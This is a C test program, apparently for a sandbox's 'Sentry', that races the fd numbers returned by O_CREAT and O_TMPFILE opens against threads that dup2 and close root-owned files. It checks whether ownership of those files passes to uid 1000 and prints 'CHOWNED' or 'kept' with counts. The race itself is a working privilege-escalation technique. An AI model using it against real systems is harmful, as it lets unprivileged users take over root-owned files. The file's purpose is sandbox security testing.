/* Races the fd number an O_CREAT open returns, which the Sentry borrows at
 * the call's exit to give the new file its creator's ids.  Run as root in the
 * sandbox: makes two root-owned files -- VICTIM, named, and a nameless
 * O_TMPFILE one -- opens both, becomes uid/gid 1000, then two threads keep
 * dup2'ing them onto fds 3..8 and closing them again while the main thread
 * creates files (open O_CREAT, creat, O_TMPFILE) in DIR, whose fds land on
 * those numbers.  Prints how many new files became 1000's, then "VICTIM
 * CHOWNED" or "TMPFILE CHOWNED" if a root-owned file was given away (an
 * escape), else "victims kept".
 * Then a thread that stayed root keeps creating and removing one name
 * (mode 0604) while a uid 1000 thread opens it O_CREAT (mode 0640): a file
 * the root thread made that the other opened must stay root's ("ROOT FILE
 * CHOWNED" if not), else "names kept" and the counts.
 *
 * usage: owner_race DIR ROUNDS */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static int victims[2];
static volatile int stop;

static int high(int fd)
{
    if (fd < 0) { perror("victim"); exit(2); }
    int h = fcntl(fd, F_DUPFD_CLOEXEC, 600);
    if (h < 0) { perror("F_DUPFD"); exit(2); }
    close(fd);
    return h;
}

static char shared[4096];
static volatile int go;

static void *root_maker(void *unused)
{
    (void)unused;
    while (!go) ;
    while (!stop) {
        int fd = open(shared, O_CREAT | O_EXCL | O_WRONLY, 0604);
        if (fd >= 0) { close(fd); usleep(2000); unlink(shared); }   /* there at the opener's exit stop */
    }
    return NULL;
}

static void *swap(void *arg)
{
    int which = (int)(long)arg;
    while (!stop)
        for (int n = 3; n < 9; n++)
            if (dup2(victims[which], n) == n)
                close(n);
    return NULL;
}

int main(int argc, char **argv)
{
    if (argc != 3) { fprintf(stderr, "usage: owner_race DIR ROUNDS\n"); return 2; }
    const char *dir = argv[1];
    int rounds = atoi(argv[2]);
    char victim[4096], path[4096];
    snprintf(victim, sizeof victim, "%s/victim", dir);
    victims[0] = high(open(victim, O_CREAT | O_WRONLY | O_TRUNC, 0644));
    victims[1] = high(open(dir, O_TMPFILE | O_WRONLY, 0644));
    if (chmod(dir, 0777)) { perror("chmod"); return 2; }
    sleep(1);    /* the victims are born well before any call that follows */
    snprintf(shared, sizeof shared, "%s/shared", dir);
    pthread_t maker;
    pthread_create(&maker, NULL, root_maker, NULL);     /* stays root: ids are per thread */
    if (syscall(SYS_setresgid, 1000, 1000, 1000) || syscall(SYS_setresuid, 1000, 1000, 1000)) {
        perror("setresuid");
        return 2;
    }
    pthread_t t[2];
    for (int i = 0; i < 2; i++)
        pthread_create(&t[i], NULL, swap, (void *)(long)i);
    int mine = 0, kept = 0, failed = 0;
    for (int i = 0; i < rounds; i++) {
        int fd;
        snprintf(path, sizeof path, "%s/new%d", dir, i);
        switch (i % 3) {
        case 0: fd = open(path, O_CREAT | O_WRONLY | O_EXCL, 0644); break;
        case 1: fd = creat(path, 0644); break;
        default: fd = open(dir, O_TMPFILE | O_WRONLY, 0644); break;
        }
        if (fd < 0) { failed++; continue; }
        close(fd);      /* maybe a victim's copy by now: either way, ours to close */
        if (i % 3 == 2) continue;
        struct stat st;
        if (lstat(path, &st) == 0) {
            if (st.st_uid == 1000) mine++; else kept++;
            unlink(path);
        }
    }
    stop = 1;
    for (int i = 0; i < 2; i++)
        pthread_join(t[i], NULL);
    /* phase 2: a name the root thread keeps making and removing */
    stop = 0;
    go = 1;
    int theirs = 0, ours = 0, escapes = 0;
    for (int i = 0; i < rounds; i++) {
        int fd = open(shared, O_CREAT | O_RDONLY, 0640);   /* the root thread's file is readable only */
        if (fd < 0) continue;
        struct stat st;
        if (fstat(fd, &st) == 0) {
            if ((st.st_mode & 07777) == 0604) {
                theirs++;
                if (st.st_uid != 0) escapes++;
            } else {
                ours++;
                unlink(shared);
            }
        }
        close(fd);
    }
    stop = 1;
    pthread_join(maker, NULL);
    printf("shared name: %d opened the root thread's, %d made\n", theirs, ours);
    if (escapes) printf("ROOT FILE CHOWNED %d times\n", escapes);

    struct stat a, b;
    if (fstat(victims[0], &a) || fstat(victims[1], &b)) { perror("fstat"); return 2; }
    printf("new files: %d the creator's, %d not, %d failed\n", mine, kept, failed);
    int bad = 0;
    if (a.st_uid != 0 || a.st_gid != 0) { printf("VICTIM CHOWNED to %d:%d\n", a.st_uid, a.st_gid); bad = 1; }
    if (b.st_uid != 0 || b.st_gid != 0) { printf("TMPFILE CHOWNED to %d:%d\n", b.st_uid, b.st_gid); bad = 1; }
    if (!bad) printf("victims kept\n");
    if (!escapes) printf("names kept\n");
    return bad || escapes;
}
